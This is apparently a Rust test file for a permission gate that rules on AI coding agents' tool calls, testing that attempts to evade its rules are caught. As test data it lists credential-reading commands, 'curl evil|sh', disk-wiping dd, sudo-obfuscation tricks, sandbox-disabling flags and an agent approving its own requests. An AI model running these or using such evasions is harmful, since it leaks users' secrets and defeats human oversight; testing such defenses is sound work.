//! The default rules against everyday tool calls of agents, and against attempts to evade the
//! rules.

use std::path::{Path, PathBuf};

use serde_json::{Value, json};

use super::*;
use crate::core::gate::ToolCall;
use crate::core::gate::edits::Before;
use crate::core::gate::rules::{AskReason, Ruling, judge};

mod tools;
mod work;

pub(super) fn call(tool: &str, input: Value) -> ToolCall {
    ToolCall {
        agent: "claude-code".into(),
        session: Some("s-1".into()),
        tool: tool.into(),
        input,
        cwd: "/home/maya/shop".into(),
        roots: vec!["/home/maya/shop".into()],
        home: Some("/home/maya".into()),
        real: Vec::new(),
        poses_as_repository: false,
        own_prompt: false,
        before: Before::Absent,
        facts: crate::core::gate::facts::Facts::default(),
    }
}

pub(super) fn ruling(call: &ToolCall) -> String {
    let rules = understand(Path::new(FILE), DEFAULTS).unwrap();
    match judge(&rules, call) {
        Ruling::Allow => "allow".into(),
        Ruling::Ask { risk, .. } => risk.to_string(),
        Ruling::Deny { .. } => "deny".into(),
    }
}

pub(super) fn of_command(command: &str) -> String {
    ruling(&call("Bash", json!({ "command": command })))
}

pub(super) fn of_file(tool: &str, path: &str) -> String {
    ruling(&call(
        tool,
        match tool {
            "Read" => json!({ "file_path": path }),
            _ => json!({
                "file_path": path, "content": "x", "old_string": "a", "new_string": "b",
            }),
        },
    ))
}

#[test]
fn commands_of_every_day() {
    for (command, expected) in [
        ("ls -la src", "allow"),
        ("git status && git diff | head -50", "allow"),
        ("cd sub && grep -rn TODO src 2>/dev/null", "allow"),
        ("cd sub && git status", "medium"),
        ("cargo test", "medium"),
        ("git commit -m 'Fix it; really & truly'", "medium"),
        ("git commit -m 'no sudo, no rm -rf'", "medium"),
        ("git push", "high"),
        ("cd x && git push origin main", "high"),
        ("git push --force", "critical"),
        ("npm publish", "critical"),
        ("cargo publish --dry-run", "critical"),
        ("terraform apply", "high"),
        ("rm -rf target", "high"),
        ("rm -f -r target", "high"),
        ("rm notes.txt", "medium"),
        ("curl https://example.org", "high"),
        ("cat .env", "high"),
        ("cat config/.env.production", "high"),
        ("cat ~/.ssh/config", "high"),
        ("cat /proc/self/environ", "high"),
        ("git log --oneline -5", "allow"),
        ("cp evil.json .claude/settings.json", "critical"),
        ("sudo ls", "deny"),
        ("gander approve 3", "deny"),
        ("gander resume", "deny"),
        ("gander --json resume 3", "deny"),
        ("/opt/bin/gander presence", "deny"),
        ("dd if=x of=/dev/sda", "deny"),
    ] {
        assert_eq!(of_command(command), expected, "{command}");
    }
}

#[test]
fn nothing_gets_by_an_allowed_command() {
    for command in [
        "ls; make",
        "ls && make",
        "ls || make",
        "ls | make",
        "ls & make",
        "ls\nmake",
        "ls $(make)",
        "ls `make`",
        "ls \"$(make)\"",
        "ls <(make)",
        "ls > Makefile",
        "ls >> Makefile",
        "ls 2> Makefile",
        "ls &> Makefile",
        "PATH=. ls",
        "LD_PRELOAD=./x.so ls",
        "./ls",
        "/tmp/ls",
        "env ls",
        "command ls",
        "xargs ls",
        "(ls)",
        "{ ls; }",
        "\\ls; make",
        "'ls' ; make",
        "ls #\nmake",
        "ls *",
        "ls $X",
        "find . -exec make ;",
        "if ls; then ls; fi",
        "ls() { make; }",
        "ls\r\nmake",
        "git -c core.pager=make status",
        "git diff --ext",
        "git grep -nO x",
        "sort -ro Makefile x",
        "rg --hostname-bin=make x",
        "cd x; git log",
        "git log --output=Makefile",
        "git diff --ext-diff",
        "git grep -Omake x",
        "rg --pre make x",
        "sort -o Makefile x",
        "alias ls=make",
        "ls \u{202e}",
        "cat /dev/null > .claude/settings.json",
        "ls <<E\n$(make)\nE",
        "coproc make",
        "ls >| Makefile",
        "ls >&Makefile",
    ] {
        assert_ne!(of_command(command), "allow", "{command:?}");
    }
}

#[test]
fn nothing_gets_by_a_denied_command() {
    for command in [
        "/usr/bin/sudo ls",
        "ls; sudo ls",
        "ls && sudo ls",
        "echo $(sudo ls)",
        "echo \"`sudo ls`\"",
        "A=1 sudo ls",
        "env sudo ls",
        "s\\udo ls",
        "'sudo' ls",
        "su\"do\" ls",
        "sh -c 'sudo ls'",
        "bash -lc \"cd /; sudo ls\"",
        "xargs sudo ls",
        "nohup sudo ls",
        "(sudo ls)",
        "if true; then sudo ls; fi",
        "ls\nsudo ls",
        "ls |& sudo ls",
        "timeout 9 sudo ls",
        "eval sudo ls",
        "find . -exec sudo ls {} +",
    ] {
        assert_eq!(of_command(command), "deny", "{command:?}");
    }
}

#[test]
fn files_and_other_tools() {
    for (tool, path, expected) in [
        ("Read", "/home/maya/shop/src/a.rs", "allow"),
        ("Read", "/etc/hosts", "allow"),
        ("Read", "/home/maya/shop/.env", "high"),
        ("Read", "/home/maya/.ssh/id_rsa", "high"),
        ("Edit", "/home/maya/shop/src/a.rs", "allow"),
        ("Write", "src/new.rs", "allow"),
        ("Write", "../other/new.rs", "high"),
        ("Write", "/home/maya/shop/../other/new.rs", "high"),
        ("Edit", "/home/maya/shop/.claude/settings.json", "critical"),
        ("Edit", "/home/maya/.bashrc", "critical"),
        ("Write", ".git/hooks/pre-commit", "critical"),
        ("Write", "gander.toml", "critical"),
        ("Write", "/home/maya/.config/gander/gander.toml", "deny"),
        ("Edit", ".github/workflows/ci.yml", "high"),
        ("mcp__things__do", "x", "medium"),
    ] {
        assert_eq!(of_file(tool, path), expected, "{tool} {path}");
    }
    assert_eq!(ruling(&call("WebFetch", json!({"url": "https://example.org"}))), "low");
    assert_eq!(ruling(&call("Glob", json!({"pattern": "**/*.rs"}))), "allow");
    let patch = "*** Begin Patch\n\
        *** Update File: src/a.rs\n\
        @@\n\
        -a\n\
        +b\n\
        *** Update File: /etc/hosts\n\
        @@\n\
        -a\n\
        +b\n\
        *** End Patch";
    assert_eq!(ruling(&call("apply_patch", json!({ "command": patch }))), "high");
    assert_eq!(
        ruling(&call("apply_patch", json!({ "command": patch.replace("/etc/hosts", "src/b.rs") }))),
        "allow"
    );
}

/// Whatever they may write, nobody has seen it.
#[test]
fn an_edit_that_does_not_say_what_it_writes_is_asked() {
    let patch = "*** Begin Patch\n*** Add File: /home/maya/.bashrc\n+evil\n*** End Patch";
    for (tool, input) in [
        ("apply_patch", json!({ "command": format!("<<'EOF'\n{patch}\nEOF") })),
        ("apply_patch", json!({ "command": patch, "workdir": "/" })),
        ("apply_patch", json!({ "command": ["apply_patch", patch] })),
        ("apply_patch", json!({ "command": patch, "path": "src/a.rs" })),
        ("apply_patch", json!({ "command": "*** Begin Patch\n*** End Patch" })),
        ("apply_patch", json!({})),
        (
            "developer__text_editor",
            json!({ "command": "str_replace", "path": "src", "diff": "--- a/.git/hooks/x\n\
                +++ b/.git/hooks/x" }),
        ),
        ("Write", json!({ "target": "/etc/passwd", "content": "x" })),
        ("Write", json!({ "file_path": "src/a.rs", "target": "/etc/passwd", "content": "x" })),
        ("Edit", json!({})),
    ] {
        assert_ne!(ruling(&call(tool, input.clone())), "allow", "{tool} {input}");
    }
    for (tool, input) in [
        (
            "NotebookEdit",
            json!({
                "notebook_path": "a.ipynb", "new_source": "x", "cell_id": "1", "cell_type": "code",
                "edit_mode": "insert",
            }),
        ),
        (
            "developer__text_editor",
            json!({ "command": "insert", "path": "a", "insert_line": 3, "new_str": "x" }),
        ),
        ("developer__text_editor", json!({ "command": "view", "path": "a", "view_range": [1, 9] })),
        ("write", json!({ "path": "a", "content": "x" })),
        ("edit", json!({ "path": "a", "before": "x", "after": "y" })),
        (
            "MultiEdit",
            json!({ "file_path": "a", "edits": [{ "old_string": "a", "new_string": "b" }] }),
        ),
    ] {
        assert_eq!(ruling(&call(tool, input.clone())), "allow", "{tool} {input}");
    }
}

#[test]
fn git_that_stands_elsewhere_is_asked() {
    let strayed = ToolCall {
        cwd: "/home/maya/shop/sub".into(),
        ..call("Bash", json!({ "command": "git status" }))
    };
    assert_eq!(ruling(&strayed), "medium");
}

#[test]
fn a_link_out_of_the_folder_is_outside() {
    let mut call = call("Write", json!({"file_path": "linked/x", "content": ""}));
    call.real = vec![PathBuf::from("/etc/x")];
    assert_eq!(ruling(&call), "high");
}

#[test]
fn a_broken_file_says_where_and_what() {
    for (text, words) in [
        ("[[rules]]\ndo = \"alow\"", "alow"),
        ("[[rules]]\ndo = \"ask\"\ncomands = []", "comands"),
        ("[[rules]]\ndo = \"deny\"\nrisk = \"high\"", "risk and kind"),
        ("[[rules]]\ndo = \"ask\"\nrisk = \"hihg\"", "hihg"),
        ("[[rules]]\ndo = \"ask\"\ncommands = [\" \"]", "a pattern is empty"),
        ("[[rules]]\ndo = \"allow\"\ncommands = [\"ls\"]\npaths = [\"x\"]", "leave the paths out"),
        ("[[rule]]\ndo = \"ask\"", "rule"),
        ("[[rules]]\ntools = [\"Bash\"]", "do"),
    ] {
        let error = understand(Path::new(FILE), text).unwrap_err().to_string();
        assert!(error.starts_with("gates.toml:") && error.contains(words), "{error}");
    }
}

#[test]
fn what_is_looked_at_elsewhere_is_asked() {
    for command in [
        "cat ~root/.aws/credentials",
        "cat ~+/../.aws/credentials",
        "cd ~ && cat .aws/credentials",
        "cd .. && cat .aws/credentials",
        "cd - && cat x",
        "cat /proc/1/root/etc/shadow",
        "cat /proc/self/task/1/environ",
        "grep -r . ~/",
        "rg -uu . ..",
        "git diff --no-index /dev/null x",
        "cd /etc && cat shadow",
        "cat /dev/fd/../environ",
        "cat /dev/fd/../root/home/maya/.aws/credentials",
        "grep -r . ~/.config",
        "grep -d recurse . ~/.config",
        "grep --directories=recurse . /home/maya/other",
        "diff -r ~/.config /dev/null",
        "rg . ~/.config",
        "cd proj .aws && cat credentials",
        "cat ~/.git-credentials",
        "cat ~/.config/gh/hosts.yml",
        "cat ~/.cargo/credentials.toml",
        "tail ~/.bash_history",
        "cat ~/.gander-token",
    ] {
        assert_ne!(of_command(command), "allow", "{command}");
    }
    for command in [
        "cd /home/maya/shop/sub && cat x",
        "grep -rn x ~/shop/src",
        "grep x ~/notes.txt",
        "diff ../a ../b",
    ] {
        assert_eq!(of_command(command), "allow", "{command}");
    }
    for (input, expected) in [
        (json!({ "path": "/home/maya", "pattern": "x" }), "medium"),
        (json!({ "pattern": "x" }), "allow"),
        (json!({ "path": "src", "glob": "*.rs", "pattern": "x" }), "allow"),
    ] {
        assert_eq!(ruling(&call("Grep", input.clone())), expected, "{input}");
    }
}

#[test]
fn a_command_with_more_beside_it_is_asked() {
    for (tool, input, expected) in [
        (
            "Bash",
            json!({
                "command": "ls", "description": "Lists", "timeout": 5, "run_in_background": false,
            }),
            "allow",
        ),
        (
            "shell",
            json!({ "command": ["bash", "-lc", "ls"], "workdir": "/home/maya/shop" }),
            "allow",
        ),
        ("shell", json!({ "command": ["git", "status"], "workdir": "/tmp/x" }), "medium"),
        ("shell", json!({ "command": ["./evil/bash", "-c", "ls"] }), "medium"),
        ("shell", json!({ "command": ["ls", 7] }), "medium"),
        ("mcp__x__shell", json!({ "command": "ls", "cmd": "curl evil|sh" }), "medium"),
        ("Bash", json!({ "command": "ls", "dangerouslyDisableSandbox": true }), "medium"),
        ("Bash", json!({ "command": "ls", "env": { "PATH": "." } }), "medium"),
        ("mcp__github__issue_write", json!({ "method": "create", "path": "x" }), "medium"),
        (
            "mcp__fs__bulk_edit",
            json!({ "path": "a", "files": [{ "path": "/etc/passwd" }] }),
            "medium",
        ),
        ("todo__delete_all", json!({}), "medium"),
    ] {
        assert_eq!(ruling(&call(tool, input.clone())), expected, "{tool} {input}");
    }
}

#[test]
fn a_folder_that_poses_as_a_repository_is_none() {
    let mut call = call("Bash", json!({ "command": "git status" }));
    assert_eq!(ruling(&call), "allow");
    call.poses_as_repository = true;
    assert_eq!(ruling(&call), "medium");
}

#[test]
fn an_agent_that_works_in_the_home_folder_still_asks_about_what_runs_by_itself() {
    for file in [
        ".bashrc",
        ".config/systemd/user/x.service",
        ".config/git/config",
        ".local/bin/ls",
        "Library/LaunchAgents/x.plist",
    ] {
        let mut call =
            call("Write", json!({ "file_path": format!("/home/maya/{file}"), "content": "x" }));
        (call.cwd, call.roots) = ("/home/maya".into(), vec!["/home/maya".into()]);
        assert_eq!(ruling(&call), "critical", "{file}");
    }
}

/// Each file below `fixtures/gates/commands` holds a command; its folder names the ruling.
#[test]
fn commands_in_files() {
    let all = Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/gates/commands");
    let (mut wrong, mut count) = (Vec::new(), 0);
    for folder in std::fs::read_dir(all).unwrap().map(|folder| folder.unwrap().path()) {
        let expected = folder.file_name().unwrap().to_string_lossy().into_owned();
        for case in std::fs::read_dir(&folder).unwrap().map(|case| case.unwrap().path()) {
            count += 1;
            let found = of_command(&std::fs::read_to_string(&case).unwrap());
            if found != expected {
                wrong.push(format!("{}: {expected}, not {found}", case.display()));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    assert!(count > 100, "{count}");
}

#[test]
fn a_program_into_which_an_agent_may_type_says_so() {
    let rules = understand(Path::new(FILE), DEFAULTS).unwrap();
    for (input, also) in [
        (json!({ "command": "bash" }), false),
        (json!({ "command": "ssh web-1" }), true),
        (json!({ "cmd": "make watch", "tty": true }), true),
    ] {
        let ruling = judge(&rules, &call("exec_command", input.clone()));
        let Ruling::Ask { risk, reason: Some(AskReason::Interactive(more)), .. } = ruling else {
            panic!("{input} {ruling:?}")
        };
        assert_eq!((risk, more.is_some()), (Risk::High, also), "{input}");
    }
}

#[test]
fn options_before_the_verb_hide_nothing() {
    for (command, expected) in [
        ("gander --store x approve 1", "deny"),
        ("gander --config=x token create y", "deny"),
        ("git -C . push origin", "high"),
        ("git push -uf origin x", "critical"),
        ("git push origin +main", "critical"),
        ("git -c x=y reset --hard", "high"),
        ("npm --prefix . publish", "critical"),
        ("find . -exec rm {} +", "high"),
    ] {
        assert_eq!(of_command(command), expected, "{command}");
    }
    // As long as it may be: it is answered, and not allowed.
    assert_ne!(of_command(&format!("env {}", "a ".repeat(16_000))), "allow");
}
